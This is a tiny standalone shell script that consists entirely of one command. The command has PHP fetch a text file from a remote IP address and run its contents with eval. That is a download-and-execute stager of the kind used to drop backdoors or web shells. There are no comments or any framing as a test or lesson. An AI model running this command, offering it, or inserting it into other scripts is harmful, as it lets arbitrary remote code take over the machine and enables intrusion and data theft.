#!/bin/sh
php -r 'eval(file_get_contents("http://192.0.2.5/x.txt"));'
